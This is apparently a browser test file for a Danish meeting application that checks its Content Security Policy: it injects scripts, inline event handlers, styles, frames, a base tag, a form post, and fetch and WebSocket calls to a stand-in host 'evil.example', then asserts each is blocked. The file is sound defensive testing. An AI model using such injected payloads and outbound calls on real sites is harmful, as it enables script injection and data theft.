// What the browser is told to forbid: no view of ours needs it, and a page that has been tampered with does not get it.
import { createServer } from 'node:http'
import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { board } from '../support/board.ts'
import { closeLater } from '../support/closing.ts'
import { linkAt, type Screens, screens } from '../support/pages.ts'
import { type Served, serve } from '../support/process.ts'
import { makeMeeting } from '../support/server.ts'

let at: Served
let meeting: Awaited<ReturnType<typeof makeMeeting>>
let room: Screens
beforeAll(async () => {
  at = await serve()
  const participants = [{ name: 'Åse Kjær', phone: '20123450' }, { name: 'Bo Holm' }]
  meeting = await makeMeeting(at, { board, participants })
  room = await screens()
})

declare global {
  var violations: string[]
}
/** Whatever the policy forbids on a page, from its first moment. */
const remember = () => {
  globalThis.violations = []
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    globalThis.violations.push(`${effectiveDirective} ${blockedURI}`)
  )
}
const sit = (link: string) => room.sit(link, {}, (page) => page.addInitScript(remember))

test.each([
  ...board.map(({ name, roles }) => [roles.join(), name] as const),
  ['screen', null],
  ['start', null]
] as const)(
  'the view of %s breaks none of it, in the light and in the dark, on paper, and with its keys shown',
  async (what, name) => {
    const seat = linkAt(at.url, meeting.id, name ? meeting.tokenOf(name) : meeting.screenToken)
    const page = await sit(what === 'start' ? `${at.url}/#${at.adminToken}` : seat)
    await page.waitForSelector('main, [role=main], h1')
    await page.waitForLoadState('networkidle')
    await page.emulateMedia({ colorScheme: 'dark' })
    await page.keyboard.press('?')
    await page.emulateMedia({ media: 'print' })
    expect(await page.evaluate(() => document.body.innerText.trim().length)).toBeGreaterThan(10)
    expect(await page.evaluate(() => globalThis.violations)).toEqual([])
    await page.context().close()
  }
)

test('scripts, styles, frames, addresses and forms that somebody has put into a page do nothing', async () => {
  const page = await sit(linkAt(at.url, meeting.id, meeting.tokenOf('Lise')))
  await page.waitForLoadState('networkidle')
  const tried = await page.evaluate(async () => {
    const marks: Record<string, unknown> = globalThis as never
    const put = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
    const add = (tag: string, changes: object) =>
      document.body.append(Object.assign(document.createElement(tag), changes))
    add('script', { textContent: 'globalThis.ran = "a script"' })
    put('<img src="/nowhere.png" onerror="globalThis.ran = 1">')
    put('<p id="styled" style="position: fixed">x</p>')
    add('style', { textContent: '#styled { position: fixed }' })
    add('script', { src: 'https://evil.example/x.js' })
    add('iframe', { src: 'https://evil.example/' })
    add('object', { data: '/favicon.svg', type: 'image/svg+xml' })
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
    const form = Object.assign(document.createElement('form'), { action: '/taken', method: 'post' })
    document.body.append(form)
    form.submit()
    const said = async (what: () => unknown) => {
      try {
        return String(await what())
      } catch (error) {
        return error instanceof Error ? error.name : 'refused'
      }
    }
    const fetched = await said(() => fetch('https://evil.example/?x'))
    new WebSocket('wss://evil.example/')
    await new Promise((resolve) => setTimeout(resolve, 500)) // by then it is the page that asks, and not the one who drives it
    const evaluated = await said(() => Function('return "a text"')())
    const position = getComputedStyle(document.querySelector('#styled') as Element).position
    return {
      ran: marks.ran,
      position,
      base: document.baseURI,
      at: location.pathname,
      evaluated,
      fetched,
      found: globalThis.violations
    }
  })
  const { found, ...came } = tried
  expect(came).toEqual({
    ...{ ran: undefined, position: 'static', base: expect.stringContaining(at.url), at: `/m/${meeting.id}` },
    ...{ evaluated: 'EvalError', fetched: 'TypeError' }
  })
  const directives = new Set(found.map((violation) => violation.split(' ')[0]))
  expect([...directives].toSorted()).toEqual([
    ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'object-src', 'script-src-attr'],
    ...['script-src-elem', 'style-src-attr', 'style-src-elem']
  ])
  expect(found.filter((violation) => violation.startsWith('connect-src'))).toHaveLength(2) // fetch and the socket
})

test('a page of others frames neither the meeting nor the start page; the meeting stands in a frame of its own', async () => {
  const seat = linkAt(at.url, meeting.id, meeting.tokenOf('Lise'))
  const framed = (page: Page, address: string) =>
    page.evaluate(async (src) => {
      const frame = Object.assign(document.createElement('iframe'), { src })
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await loaded
      return frame.contentDocument?.title ?? null // null where it is not ours to read, and it is no page of ours then
    }, address)
  const others = await createOther()
  const [theirs, ours] = [await sit(others), await sit(seat)]
  for (const address of [seat, `${at.url}/`]) {
    const refused = theirs.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
    expect(await framed(theirs, address)).toBeNull()
    await refused
  }
  expect(await framed(ours, seat)).toMatch(/Drejebog|Klyngemøde/)
})

/** A page of somebody else, at another port. */
async function createOther(): Promise<string> {
  const server = createServer((_, answer) =>
    answer.setHeader('content-type', 'text/html').end('<body>En anden side</body>')
  )
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  closeLater(() => server.close())
  const address = server.address()
  return `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/`
}
